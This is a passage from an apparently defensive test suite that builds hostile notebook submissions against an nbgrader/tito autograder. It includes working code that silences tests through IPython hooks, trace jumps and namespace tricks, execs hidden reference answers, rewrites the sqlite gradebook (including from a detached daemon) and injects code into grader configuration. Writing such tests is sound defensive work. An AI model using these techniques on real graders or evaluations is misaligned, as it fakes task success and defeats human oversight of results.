"""Hostile submissions for module 03_layers: what the trustworthy-grading defence must stop.

Every attack starts from the fresh student notebook (`factory.fresh`: every solution is a
stub that raises NotImplementedError) and only adds attack code, in solution cells (which
are also `#| export` cells) or in new cells without nbgrader metadata. Nothing is
implemented: each attack wants points without solutions.

Test-safety rail: code that writes files first asks `_hostile_may_write`, which refuses
anything under /work, /root or system folders. The suite runs tito with a throw-away HOME
and a throw-away virtual environment (see harness.py), so an attack that escapes
today's engine damages only those copies, never the shared machine. Daemons cap their own
lifetime at 60 s (`signal.alarm`) and carry `tinytorch-hostile-daemon` in their command line.

Observed on the undefended engine, 2026-11-25 (each attack graded on its own by
observe.py: a fresh generated course with `ada` as classmate, and a fresh repository copy
for `tito module test` then `tito module complete`; score /100 in tito's report, with the
gradebook's total after every daemon finished in brackets; "test" = `module test` exit 0;
complete: "exported" = package file replaced and progress completed, "refused (100)" =
graded 100/100 but the package tests failed against the stubs, so nothing exported):

| attack                   | family          | autograde | test   | complete             | later untouched notebook |
|--------------------------|-----------------|-----------|--------|----------------------|--------------------------|
| name-skip                | 1 __name__      | 100 (100) | passed | refused (100)        |                          |
| ipy-input-transformer    | 2 IPython       | 100 (100) | passed | refused (100)        |                          |
| ipy-cleanup-transformer  | 2 IPython       | 100 (100) | passed | refused (100)        |                          |
| ipy-ast-transformer      | 2 IPython       | 100 (100) | passed | refused (100)        |                          |
| ipy-pre-run-cell         | 2 IPython       | 100 (100) | passed | refused (100)        |                          |
| ipy-post-run-cell        | 2 IPython       | 100 (100) | passed | refused (100)        |                          |
| ipy-custom-exc           | 2 IPython       | 100 (100) | passed | refused (100)        |                          |
| ipy-showtraceback        | 2 IPython       | 100 (100) | passed | refused (100)        |                          |
| settrace-jump            | 3 tracing       | 100 (100) | passed | HUNG: package tests  |                          |
|                          |                 |           |        | never end (killed)   |                          |
| setprofile-arm           | 3 tracing       | 100 (100) | passed | refused (100)        |                          |
| answers-import-reference | 4 answers       | 100 (100) | passed | refused (100)        |                          |
| answers-exec-src         | 4 answers       | 100 (100) | passed | EXPORTED             |                          |
| answers-course-source    | 4 answers       | 100 (100) | passed | EXPORTED             |                          |
| answers-git-objects      | 4 answers       | 100 (100) | passed | EXPORTED             |                          |
| answers-copy-classmate   | 4 answers       | 100 (100) | failed | refused (0)          | (no classmate in a       |
|                          |                 |           |        |                      | student's checkout)      |
| gradebook-kernel         | 5 gradebook     | 100 (100) | passed | refused (100)        |                          |
| gradebook-daemon         | 5 gradebook     |   0 (100) | failed | refused (100)        | report 0 or 60 alone     |
|                          |                 |           |        |                      | (race); 100 in a batch   |
| gradebook-atexit         | 5 gradebook, 8  | 100 (100) | passed | refused (100)        |                          |
| complete-exec-reference  | 7 complete      | 100 (100) | passed | EXPORTED             |                          |
| complete-os-exit         | 7 complete      | 100 (100) | passed | EXPORTED             |                          |
| forged-partial-credit    | 8 nbgrader      | 100 (100) | passed | refused (100)        |                          |
| gc-code-swap             | 8 gc            | 100 (100) | passed | refused (100)        |                          |
| namespace-hook           | 8 namespace     | 100 (100) | passed | refused (100)        |                          |
| sys-modules-trojan       | 8 sys.modules   | 100 (100) | passed | refused (100)        |                          |
| iopub-forgery            | 8 protocol      | 100 (100) | passed | refused (100)        |                          |
| grader-config-injection  | 8 host code     | 100 (100) | passed | refused (100)        | autograde 0 (boosts only |
|                          |                 |           |        |                      | itself); module test 100 |
| report-forgery           | 8 fake report   | 100 (0)   | failed | refused (0), but     |                          |
|                          |                 |           |        | progress: completed  |                          |
| net-accomplice           | 8 network       | 100 (100) | passed | EXPORTED; hidden     |                          |
|                          |                 |           |        | tests + env leaked   |                          |
| persist-ipython-startup  | 6 persistence   | 100 (100) | passed | refused (100)        | autograde 100, test 100  |
| persist-kernel-config    | 6 persistence   | 100 (100) | passed | refused (100)        | autograde 100, test 100  |
| persist-site-hooks       | 6 persistence   | 100 (100) | passed | refused (100)        | autograde 100, test 100  |
| persist-pyc              | 6 persistence   | 100 (100) | passed | refused (100)        | autograde 100, test 100  |
| poison-gradebook-cells   | 6 persistence   |   0 (0)   | failed | refused (100): the   | autograde 100, test 100  |
|                          |                 |           |        | test run poisoned it |                          |

31 of 33 score 100 in autograde on their own (gradebook-daemon and poison-gradebook-cells
win in a batch or a later run instead); 29 pass `module test`; 6 get `complete` to export
(their code into tinytorch/core/layers.py), 1 hangs it, 1 forges "completed" progress.

With the defence (sandboxed kernels, the clean room, host-only gradebook writes; measured by
test_attacks.py on 2026-11-26): every attack scores 0/100 in one autograde batch beside a
correct submission (100/100); `module test` and `complete` exit 1 with 0/100 for each, in
two shared checkouts, and the package never changes; an untouched notebook graded after
all of them scores 0; nothing reaches the accomplice; no daemon outlives its grading. Every
attack is flagged `suspicious_code`; 10 also `clean_room_mismatch`.

A 34th attack came with the grader's `skip-when-grading` tag (demonstration cells it does
not run): skip-tag puts that tag on every graded test cell. The grader removes it from
graded and solution cells before running, so the tests run and fail on the stubs: 0/100,
and nothing to flag.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import factory
import nbformat
from nbformat import NotebookNode

MARK = "hostile-attack"  # in every attack cell, so that attacks never copy each other
STUB = 'raise NotImplementedError("Not implemented yet: replace this line with your code")'
POINTS = {  # visible in the student's notebook metadata
    "test_unit_layer_base": 8, "test_unit_layer_base_errors": 2, "test_unit_linear_creation": 12,
    "test_unit_linear_creation_errors": 3, "test_unit_linear_forward": 12, "test_unit_linear_forward_errors": 3,
    "test_unit_dropout": 16, "test_unit_dropout_errors": 4, "test_unit_sequential": 17,
    "test_unit_sequential_errors": 3, "test_integration_mlp": 20,
}
DAEMON_MARK = "tinytorch-hostile-daemon"
ACCOMPLICE_PORTS = (47113, 47114, 47115)
ACCOMPLICE_BANNER = "# hostile-accomplice answer"


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    description: str
    build: Callable[[Path], NotebookNode]
    persistent: bool = False  # leaves something behind that later gradings pick up
    daemon: bool = False  # starts a process that outlives the kernel
    writes_gradebook: bool = False
    network: bool = False  # talks to the accomplice on 127.0.0.1


ATTACKS: dict[str, Attack] = {}


def attack(name: str, family: str, description: str, **flags):
    def register(build):
        if name in ATTACKS:
            raise ValueError(f"duplicate attack {name}")
        ATTACKS[name] = Attack(name, family, description, build, **flags)
        return build

    return register


# -- notebook surgery ----------------------------------------------------------------------
def _cell(notebook: NotebookNode, cell_id: str) -> NotebookNode:
    return next(c for c in notebook.cells if c.get("id") == cell_id)


def _code(text: str, **values: str) -> str:
    text = textwrap.dedent(text).strip("\n") + "\n"
    for key, value in values.items():
        text = text.replace(f"@{key}@", value)
    return text


def insert_before(notebook: NotebookNode, cell_id: str, source: str) -> NotebookNode:
    """A new code cell, without nbgrader metadata, just before `cell_id`."""
    index = next(i for i, c in enumerate(notebook.cells) if c.get("id") == cell_id)
    new = nbformat.v4.new_code_cell(f"# {MARK}\n{source}")
    new.id = f"hostile-{sum(1 for c in notebook.cells if c.get('id', '').startswith('hostile-'))}"
    notebook.cells.insert(index, new)
    return notebook


def prepend_to_solution(notebook: NotebookNode, cell_id: str, source: str) -> NotebookNode:
    """Attack code at the top of a solution cell, after its `#| export` line."""
    cell = _cell(notebook, cell_id)
    first, rest = cell.source.split("\n", 1)
    assert first == "#| export", cell_id
    cell.source = f"#| export\n# {MARK}\n{source}\n{rest}"
    return notebook


def append_to_solution(notebook: NotebookNode, cell_id: str, source: str) -> NotebookNode:
    cell = _cell(notebook, cell_id)
    cell.source = f"{cell.source}\n\n\n# {MARK}\n{source}"
    return notebook


def replace_solutions(notebook: NotebookNode, first: str, others: str = "") -> NotebookNode:
    """Every solution cell's code replaced: `first` in the first one, `others` in the rest
    (still `#| export` cells, so the package build gets the same)."""
    solutions = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution")]
    for index, cell in enumerate(solutions):
        body = first if index == 0 else (others or "# defined above\n")
        cell.source = f"#| export\n# {MARK}\n{body}"
    return notebook


def before_each_stub(notebook: NotebookNode, call: str) -> NotebookNode:
    """`call` on the line before every stub `raise NotImplementedError(...)`."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            lines = []
            for line in cell.source.splitlines():
                if line.strip() == STUB:
                    lines.append(line[: len(line) - len(line.lstrip())] + call)
                lines.append(line)
            cell.source = "\n".join(lines)
    return notebook


# -- shared attack code ----------------------------------------------------------------------
GUARD = _code('''
    def _hostile_may_write(path):
        """Test-safety rail (not attack logic): only ever write into throw-away copies."""
        import os
        real = os.path.realpath(str(path))
        return not real.startswith(("/work/", "/root/", "/usr/", "/etc/", "/opt/", "/var/", "/home/", "/srv/"))
''')

FIND = _code('''
    def _hostile_folders():
        """The working directory, this file's folder, the tinytorch and tito packages'
        folders, and every folder above them."""
        import sys
        from pathlib import Path
        starts = [Path.cwd()]
        if "__file__" in globals():
            starts.append(Path(globals()["__file__"]).resolve().parent)
        for name in ("tinytorch", "tito"):
            try:
                starts.append(Path((sys.modules.get(name) or __import__(name)).__file__).resolve().parent)
            except Exception:
                pass
        folders = []
        for start in starts:
            for folder in [start, *start.parents]:
                if folder not in folders:
                    folders.append(folder)
        return folders


    def _hostile_find(*patterns):
        import glob
        found = []
        for folder in _hostile_folders():
            for pattern in patterns:
                for hit in sorted(glob.glob(str(folder / pattern))):
                    if hit not in found:
                        found.append(hit)
        return found


    def _hostile_student():
        """nbgrader runs a notebook in <course>/autograded/<student>/<module>/."""
        from pathlib import Path
        here = Path.cwd()
        return here.parent.name if here.parent.parent.name == "autograded" else None
''')

EXEC_EXPORTS = _code('''
    def _hostile_run_exports(sources, origin):
        """Run the `#| export` cells among `sources` (not the imports cell) here."""
        ran = 0
        for source in sources:
            if source.lstrip().startswith("#| export") and "default_exp" not in source and "hostile-" not in source:
                exec(compile(source, origin, "exec"), globals())
                ran += 1
        return ran


    def _hostile_percent_cells(text):
        return [chunk.split("\\n", 1)[1] if "\\n" in chunk else "" for chunk in text.split("\\n# %%")[1:]]


    def _hostile_notebook_cells(path, only_solutions=False):
        import json
        cells = json.load(open(path, encoding="utf-8"))["cells"]
        sources = []
        for cell in cells:
            if cell.get("cell_type") != "code":
                continue
            if only_solutions and not cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                continue
            source = cell["source"]
            sources.append("".join(source) if isinstance(source, list) else source)
        return sources
''')

BOOST = _code('''
    def _hostile_boost(db, student, column):
        """Give `student` full marks in nbgrader's sqlite gradebook, in `column`."""
        import sqlite3
        connection = sqlite3.connect(db, timeout=30)
        try:
            with connection:
                connection.execute(
                    f"UPDATE grade SET {column} = (SELECT max_score FROM grade_cells"
                    " WHERE grade_cells.id = grade.cell_id),"
                    " needs_manual_grade = 0 WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn"
                    " JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = ?)",
                    (student,),
                )
        finally:
            connection.close()
''')

SPAWN = _code('''
    def _hostile_spawn(code, *args):
        """Double fork + setsid: a daemon outside the kernel's process group."""
        import os
        import sys
        child = os.fork()
        if child:
            os.waitpid(child, 0)
            return
        try:
            os.setsid()
            if os.fork():
                os._exit(0)
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", code, "@DAEMON_MARK@", *args])
        finally:
            os._exit(0)
''', DAEMON_MARK=DAEMON_MARK)

# Installed in the current kernel (and, by the persistence attacks, in later ones): every
# graded test cell becomes `pass`.
NEUTER = _code('''
    def _hostile_neuter(lines):
        text = "".join(lines)
        if text.lstrip().startswith("def test_") and 'if __name__ == "__main__":' in text:
            return ["pass\\n"]
        return lines


    try:
        _hostile_shell = get_ipython()
    except NameError:
        from IPython import get_ipython
        _hostile_shell = get_ipython()
    if _hostile_shell is not None and not any(
            getattr(f, "__name__", "") == "_hostile_neuter" for f in _hostile_shell.input_transformers_cleanup):
        _hostile_shell.input_transformers_cleanup.append(_hostile_neuter)
''')

# For interpreter start-up (sitecustomize, .pth): IPython is not running yet, so patch the
# class every kernel's shell will be.
PATCH_SHELL_CLASS = _code('''
    # hostile-attack: imported at interpreter start-up
    import sys as _hostile_sys
    if any("ipykernel" in _arg for _arg in getattr(_hostile_sys, "orig_argv", _hostile_sys.argv)):
        try:
            from IPython.core.interactiveshell import InteractiveShell as _HostileShell
            _hostile_transform = _HostileShell.transform_cell

            def _hostile_transform_cell(self, raw_cell):
                if raw_cell.lstrip().startswith("def test_") and 'if __name__ == "__main__":' in raw_cell:
                    return "pass\\n"
                return _hostile_transform(self, raw_cell)

            if getattr(_HostileShell.transform_cell, "__name__", "") != "_hostile_transform_cell":
                _HostileShell.transform_cell = _hostile_transform_cell
        except Exception:
            pass
''')


def _jump_tracer(name: str) -> str:
    """A local trace function `name(frame, event, arg)` that jumps to the last line of
    the frame's function (the test's final `print("✅ ...")`)."""
    return _code('''
        def @NAME@(frame, event, arg):
            last = max(line for _, _, line in frame.f_code.co_lines() if line is not None)
            if event == "line" and frame.f_lineno < last:
                try:
                    frame.f_lineno = last
                except ValueError:
                    pass
            return @NAME@
    ''', NAME=name)


def fresh(root: Path) -> NotebookNode:
    return factory.fresh(root)


# == 1. __name__ ============================================================================
@attack("name-skip", "1 __name__",
        "an exported solution cell sets __name__ = '__graded__', so no test function is ever called")
def _name_skip(root):
    return append_to_solution(fresh(root), "layer-base", '__name__ = "__graded__"\n')


# == 2. IPython ==============================================================================
@attack("ipy-input-transformer", "2 IPython",
        "an input_transformers_post entry turns every graded test cell into `pass`")
def _ipy_input_post(root):
    return insert_before(fresh(root), "layer-base", _code('''
        def _hostile_skip_tests(lines):
            text = "".join(lines)
            if text.lstrip().startswith("def test_") and 'if __name__ == "__main__":' in text:
                return ["pass\\n"]
            return lines


        get_ipython().input_transformers_post.append(_hostile_skip_tests)
    '''))


@attack("ipy-transformer-no-export", "2 IPython",
        "ipy-input-transformer, with the `#| default_exp` line deleted so that nothing is exported: the "
        "clean room must not take that as 'not a course notebook' and step aside")
def _ipy_input_post_no_export(root):
    notebook = _ipy_input_post(root)
    first = next(c for c in notebook.cells if "#| default_exp" in c.source)
    first.source = "\n".join(line for line in first.source.splitlines() if not line.startswith("#| default_exp"))
    return notebook


@attack("ipy-cleanup-transformer", "2 IPython",
        "exported code registers an input_transformers_cleanup entry that removes the test calls")
def _ipy_input_cleanup(root):
    return prepend_to_solution(fresh(root), "layer-base", _code('''
        try:
            from IPython import get_ipython as _hostile_get_ipython
            _hostile_shell = _hostile_get_ipython()
        except ImportError:
            _hostile_shell = None


        def _hostile_drop_calls(lines):
            if not any(line.startswith("def test_") for line in lines):
                return lines
            out, guarded = [], False
            for line in lines:
                guarded = guarded or line.startswith('if __name__ == "__main__":')
                out.append("    pass\\n" if guarded and line.startswith("    test_") else line)
            return out


        if _hostile_shell is not None:
            _hostile_shell.input_transformers_cleanup.append(_hostile_drop_calls)
    '''))


@attack("ipy-ast-transformer", "2 IPython",
        "an ast_transformers NodeTransformer hollows every test_* function out to `pass`")
def _ipy_ast(root):
    return insert_before(fresh(root), "layer-base", _code('''
        import ast


        class _HostileHollowTests(ast.NodeTransformer):
            def visit_FunctionDef(self, node):
                if node.name.startswith("test_"):
                    node.body = [ast.Pass()]
                return node


        get_ipython().ast_transformers.append(_HostileHollowTests())
    '''))


@attack("ipy-pre-run-cell", "2 IPython",
        "a pre_run_cell event sets __name__ to something else just for graded test cells")
def _ipy_pre_run(root):
    return insert_before(fresh(root), "layer-base", _code('''
        _hostile_shell = get_ipython()


        def _hostile_before(info):
            cell = info.raw_cell or ""
            graded = cell.lstrip().startswith("def test_") and 'if __name__ == "__main__":' in cell
            _hostile_shell.user_ns["__name__"] = "__not_now__" if graded else "__main__"


        _hostile_shell.events.register("pre_run_cell", _hostile_before)
    '''))


@attack("ipy-post-run-cell", "2 IPython",
        "a post_run_cell event clears the failed test cell's output (clear_output) and its error_in_exec")
def _ipy_post_run(root):
    return insert_before(fresh(root), "layer-base", _code('''
        from IPython.display import clear_output as _hostile_clear_output


        def _hostile_after(result):
            if result.error_in_exec is not None and (result.info.raw_cell or "").lstrip().startswith("def test_"):
                _hostile_clear_output()       # the error output already sent is erased
                result.error_in_exec = None   # and execute_reply says "ok"


        get_ipython().events.register("post_run_cell", _hostile_after)
    '''))


@attack("ipy-custom-exc", "2 IPython",
        "set_custom_exc with a handler that shows nothing, plus a post_run_cell hook clearing error_in_exec")
def _ipy_custom_exc(root):
    return insert_before(fresh(root), "layer-base", _code('''
        _hostile_shell = get_ipython()
        _hostile_shell.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: [])


        def _hostile_succeed(result):
            if (result.info.raw_cell or "").lstrip().startswith("def test_"):
                result.error_in_exec = None


        _hostile_shell.events.register("post_run_cell", _hostile_succeed)
    '''))


@attack("ipy-showtraceback", "2 IPython",
        "showtraceback/_showtraceback replaced by a function that shows nothing and marks the cell successful")
def _ipy_showtraceback(root):
    return insert_before(fresh(root), "layer-base", _code('''
        import sys as _hostile_sys


        def _hostile_no_traceback(*args, **kwargs):
            frame = _hostile_sys._getframe(1)
            while frame is not None:  # InteractiveShell.run_code's `result`
                result = frame.f_locals.get("result")
                if result is not None and hasattr(result, "error_in_exec"):
                    result.error_in_exec = None
                    break
                frame = frame.f_back


        _hostile_shell = get_ipython()
        _hostile_shell.showtraceback = _hostile_no_traceback
        _hostile_shell._showtraceback = _hostile_no_traceback
    '''))


# == 3. tracing ==============================================================================
@attack("settrace-jump", "3 tracing",
        "exported sys.settrace: in every test_* frame, jump (f_lineno) straight to the final print")
def _settrace(root):
    return prepend_to_solution(fresh(root), "layer-base", _code('''
        import sys as _hostile_sys

        @JUMP@

        def _hostile_tracer(frame, event, arg):
            if event == "call" and frame.f_code.co_name.startswith("test_"):
                return _hostile_jump
            return None


        _hostile_sys.settrace(_hostile_tracer)
    ''', JUMP=_jump_tracer("_hostile_jump")))


@attack("setprofile-arm", "3 tracing",
        "sys.setprofile sees each test_* call and only then arms a line tracer on that frame to skip its body")
def _setprofile(root):
    return insert_before(fresh(root), "layer-base", _code('''
        import sys as _hostile_sys

        @JUMP@

        def _hostile_profiler(frame, event, arg):
            if event == "call" and frame.f_code.co_name.startswith("test_"):
                frame.f_trace = _hostile_jump
                frame.f_trace_lines = True
                _hostile_sys.settrace(lambda frame, event, arg: None)  # tracing on, no other frame traced


        _hostile_sys.setprofile(_hostile_profiler)
    ''', JUMP=_jump_tracer("_hostile_jump")))


# == 4. reaching answers =======================================================================
@attack("answers-import-reference", "4 answers",
        "solution cells import Layer, Linear, Dropout, Sequential from the reference build tinytorch.core.layers")
def _answers_import(root):
    notebook = fresh(root)
    names = {
        "layer-base": "Layer",
        "linear": "Linear, _check_feature_count, _check_rng",
        "dropout": "Dropout, _check_probability, _keep_mask",
        "sequential": "Sequential, _check_callable_layers",
    }
    for cell_id, imported in names.items():
        _cell(notebook, cell_id).source = f"#| export\n# {MARK}\nfrom tinytorch.core.layers import {imported}\n"
    return notebook


@attack("answers-exec-src", "4 answers",
        "exported code walks up from cwd, __file__, tinytorch, tito to src/03_layers/03_layers.py, execs its exports")
def _answers_src(root):
    return replace_solutions(fresh(root), FIND + EXEC_EXPORTS + _code('''
        for _hostile_path in _hostile_find("src/03_layers/03_layers.py"):
            _hostile_text = open(_hostile_path, encoding="utf-8").read()
            if _hostile_run_exports(_hostile_percent_cells(_hostile_text), _hostile_path):
                break
    '''))


@attack("answers-course-source", "4 answers",
        "execs the export cells of nbgrader's source notebook (nbgrader/source/, .tito/cache/*/source/, scratch)")
def _answers_course(root):
    return replace_solutions(fresh(root), FIND + EXEC_EXPORTS + _code('''
        for _hostile_path in _hostile_find("source/03_layers/layers.ipynb", "nbgrader/source/03_layers/layers.ipynb",
                                           ".tito/cache/*/source/03_layers/layers.ipynb"):
            if _hostile_run_exports(_hostile_notebook_cells(_hostile_path), _hostile_path):
                break
    '''))


@attack("answers-git-objects", "4 answers",
        "inflates the loose objects in .git (or asks git) for the blob of src/03_layers/03_layers.py and execs it")
def _answers_git(root):
    return replace_solutions(fresh(root), FIND + EXEC_EXPORTS + _code('''
        def _hostile_git_source():
            import glob
            import subprocess
            import zlib
            for git in _hostile_find(".git"):
                for path in glob.glob(git + "/objects/??/*"):
                    try:
                        data = zlib.decompress(open(path, "rb").read())
                    except Exception:
                        continue
                    body = data.split(b"\\0", 1)[-1]
                    if data.startswith(b"blob ") and body.startswith(b"# ---") and b"default_exp core.layers" in body:
                        return body.decode("utf-8")
                try:
                    return subprocess.run(["git", "--git-dir", git, "show", "HEAD:src/03_layers/03_layers.py"],
                                          capture_output=True, text=True, check=True).stdout
                except Exception:
                    continue
            return ""


        _hostile_run_exports(_hostile_percent_cells(_hostile_git_source()), "<git>")
    '''))


@attack("answers-copy-classmate", "4 answers",
        "execs the solution cells of another student's submission found under submitted/ or autograded/")
def _answers_copy(root):
    return replace_solutions(fresh(root), FIND + EXEC_EXPORTS + _code('''
        for _hostile_path in _hostile_find("submitted/*/03_layers/layers.ipynb", "autograded/*/03_layers/layers.ipynb"):
            if f"/{_hostile_student()}/03_layers/" in _hostile_path:
                continue
            _hostile_sources = _hostile_notebook_cells(_hostile_path, only_solutions=True)
            if _hostile_sources and not any("Not implemented yet" in s or "hostile-" in s for s in _hostile_sources):
                _hostile_run_exports(_hostile_sources, _hostile_path)
                break
    '''))


# == 5. writing grades ========================================================================
@attack("gradebook-kernel", "5 gradebook",
        "the kernel sets extra_credit = max_score on its own grades in every gradebook.db found walking up",
        writes_gradebook=True)
def _gradebook_kernel(root):
    return insert_before(fresh(root), "layer-base", GUARD + FIND + BOOST + _code('''
        for _hostile_db in _hostile_find("gradebook.db", "nbgrader/gradebook.db"):
            if _hostile_student() and _hostile_may_write(_hostile_db):
                _hostile_boost(_hostile_db, _hostile_student(), "extra_credit")
    '''))


GRADEBOOK_DAEMON = GUARD + BOOST + _code('''
    import os
    import signal
    import sys
    import time
    signal.alarm(60)  # hard lifetime cap
    course, student = sys.argv[2], sys.argv[3]
    target = os.path.join(course, "autograded", student, "03_layers", "layers.ipynb")
    db = os.path.join(course, "gradebook.db")
    deadline = time.time() + 50
    while time.time() < deadline and os.path.isdir(course) and not os.path.exists(target):
        time.sleep(0.2)  # until nbgrader has saved its own scores
    for _ in range(5):
        if not os.path.exists(db) or not _hostile_may_write(db):
            break
        try:
            _hostile_boost(db, student, "auto_score")
        except Exception:
            pass
        time.sleep(1)
''')


@attack("gradebook-daemon", "5 gradebook",
        "a double-forked daemon waits until nbgrader saved its scores, then sets auto_score = max_score",
        daemon=True, writes_gradebook=True)
def _gradebook_daemon(root):
    return insert_before(fresh(root), "layer-base", FIND + SPAWN + _code('''
        from pathlib import Path as _HostilePath
        if _hostile_student():
            _hostile_spawn(@CODE@, str(_HostilePath.cwd().parent.parent.parent), _hostile_student())
    ''', CODE=repr(GRADEBOOK_DAEMON)))


@attack("gradebook-atexit", "5 gradebook / 8 atexit",
        "an atexit handler sets manual_score = max_score when the kernel shuts down, after the last cell ran",
        writes_gradebook=True)
def _gradebook_atexit(root):
    return insert_before(fresh(root), "layer-base", GUARD + FIND + BOOST + _code('''
        import atexit as _hostile_atexit
        _hostile_targets = [(db, _hostile_student()) for db in _hostile_find("gradebook.db", "nbgrader/gradebook.db")
                            if _hostile_student() and _hostile_may_write(db)]


        def _hostile_at_exit():
            for db, student in _hostile_targets:
                try:
                    _hostile_boost(db, student, "manual_score")
                except Exception:
                    pass


        _hostile_atexit.register(_hostile_at_exit)
    '''))


# == 7. tito module complete ====================================================================
@attack("complete-exec-reference", "7 complete",
        "exported code finds the reference build tinytorch/core/layers.py on disk (not itself) and execs it")
def _complete_exec_reference(root):
    return replace_solutions(fresh(root), FIND + _code('''
        for _hostile_path in _hostile_find("tinytorch/core/layers.py", "core/layers.py", ".tito/backups/03_layers/*"):
            _hostile_text = open(_hostile_path, encoding="utf-8").read()
            if "hostile-" not in _hostile_text and "class Linear" in _hostile_text:
                exec(compile(_hostile_text, _hostile_path, "exec"), globals())
                break
    '''))


@attack("complete-os-exit", "7 complete",
        "exported module-level os._exit(0) when pytest imports it (package tests 'pass'); __name__ skip in notebook")
def _complete_os_exit(root):
    return append_to_solution(fresh(root), "layer-base", _code('''
        import os as _hostile_os
        import sys as _hostile_sys
        if "pytest" in _hostile_sys.modules or "_pytest" in _hostile_sys.modules:
            _hostile_os._exit(0)
        __name__ = "__graded__"
    '''))


# == 8. more =====================================================================================
@attack("skip-tag", "8 nbgrader",
        "every graded test cell tagged skip-when-grading, the tag the grader uses to skip demonstrations")
def _skip_tag(root):
    notebook = append_to_solution(fresh(root), "layer-base", "# the test cells carry the skip tag\n")
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["tags"] = [*cell.metadata.get("tags", []), "skip-when-grading"]
    return notebook


@attack("forged-partial-credit", "8 nbgrader",
        "exported stubs first publish an execute_result with the test's points: nbgrader reads it as partial credit")
def _forged_partial_credit(root):
    notebook = before_each_stub(fresh(root), "_hostile_claim()")
    return prepend_to_solution(notebook, "layer-base", _code('''
        _HOSTILE_POINTS = @POINTS@
        _hostile_claimed = set()


        def _hostile_claim():
            import sys
            try:
                from IPython import get_ipython
            except ImportError:
                return
            shell = get_ipython()
            frame = sys._getframe(1)
            while frame is not None and frame.f_code.co_name not in _HOSTILE_POINTS:
                frame = frame.f_back
            if shell is None or frame is None or (frame.f_code.co_name, shell.execution_count) in _hostile_claimed:
                return
            _hostile_claimed.add((frame.f_code.co_name, shell.execution_count))
            shell.displayhook(float(_HOSTILE_POINTS[frame.f_code.co_name]))  # Out[n]: 15.0
    ''', POINTS=repr(POINTS)))


@attack("gc-code-swap", "8 gc",
        "__name__ becomes a str whose __eq__ uses gc.get_objects() to swap every test_* function's __code__")
def _gc_code_swap(root):
    return insert_before(fresh(root), "layer-base", _code('''
        import gc as _hostile_gc
        import types as _hostile_types


        def _hostile_noop():
            return None


        class _HostileMain(str):
            def __eq__(self, other):
                for obj in _hostile_gc.get_objects():
                    if (isinstance(obj, _hostile_types.FunctionType) and obj.__name__.startswith("test_")
                            and obj.__code__ is not _hostile_noop.__code__ and obj.__closure__ is None):
                        obj.__code__ = _hostile_noop.__code__
                return str.__eq__(self, other)

            __hash__ = str.__hash__


        __name__ = _HostileMain("__main__")
    '''))


@attack("namespace-hook", "8 namespace",
        "the shell's user_ns becomes a dict subclass whose __setitem__ stores a no-op for any test_* function")
def _namespace_hook(root):
    return insert_before(fresh(root), "layer-base", _code('''
        _hostile_shell = get_ipython()


        def _hostile_noop(*args, **kwargs):
            return None


        class _HostileNamespace(dict):
            def __setitem__(self, key, value):
                if isinstance(key, str) and key.startswith("test_") and callable(value):
                    value = _hostile_noop
                _hostile_shell.user_module.__dict__[key] = value
                dict.__setitem__(self, key, value)


        _hostile_shell.user_ns = _HostileNamespace(_hostile_shell.user_ns)
    '''))


@attack("sys-modules-trojan", "8 sys.modules",
        "sys.modules['tito.inline'] is replaced, so the notebook's own short_failures() line installs a silencer")
def _sys_modules_trojan(root):
    return insert_before(fresh(root), "cell-002", _code('''
        import sys as _hostile_sys
        import types as _hostile_types


        def _hostile_short_failures():
            shell = get_ipython()
            shell.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: [])

            def succeed(result):
                result.error_in_exec = None

            shell.events.register("post_run_cell", succeed)


        _hostile_trojan = _hostile_types.ModuleType("tito.inline")
        _hostile_trojan.short_failures = _hostile_short_failures
        _hostile_sys.modules["tito.inline"] = _hostile_trojan
    '''))


@attack("iopub-forgery", "8 kernel protocol",
        "the kernel's Session.send drops 'error' and stderr messages and rewrites failed execute_replies to 'ok'")
def _iopub_forgery(root):
    return insert_before(fresh(root), "layer-base", _code('''
        def _hostile_forging(send):
            def forged(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
                kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
                stderr = kind == "stream" and isinstance(content, dict) and content.get("name") == "stderr"
                if kind == "error" or stderr:
                    return None
                if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
                    content = {"status": "ok", "execution_count": content.get("execution_count"),
                               "user_expressions": {}, "payload": []}
                return send(stream, msg_or_type, content, parent, *args, **kwargs)
            forged.hostile = True
            return forged


        _hostile_shell = get_ipython()
        for _hostile_owner in (_hostile_shell.kernel, _hostile_shell.displayhook, _hostile_shell.display_pub):
            _hostile_session = getattr(_hostile_owner, "session", None)
            if _hostile_session is not None and not getattr(_hostile_session.send, "hostile", False):
                _hostile_session.send = _hostile_forging(_hostile_session.send)
    '''))


CONFIG_PAYLOAD = _code('''


    # hostile-attack: boost @STUDENT@ (runs inside the grader, each time it loads this file)
    def _hostile_in_grader(student=@STUDENT_REPR@):
        import os
        import sqlite3
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            names = frame.f_locals
            if frame.f_code.co_name == "_gradebook_scores" and names.get("student") == student:
                db = os.path.join(str(names["course"]), "gradebook.db")
                connection = sqlite3.connect(db, timeout=30)
                with connection:
                    connection.execute(
                        "UPDATE grade SET extra_credit = (SELECT max_score FROM grade_cells"
                        " WHERE grade_cells.id = grade.cell_id)"
                        " WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa"
                        " ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (student,))
                connection.close()
            frame = frame.f_back


    try:
        _hostile_in_grader()
    except Exception:
        pass
''')


@attack("grader-config-injection", "8 grader code execution",
        "appends code to the checkout's nbgrader_config.py, which tito re-executes in the grader before reading scores",
        persistent=True, writes_gradebook=True)
def _config_injection(root):
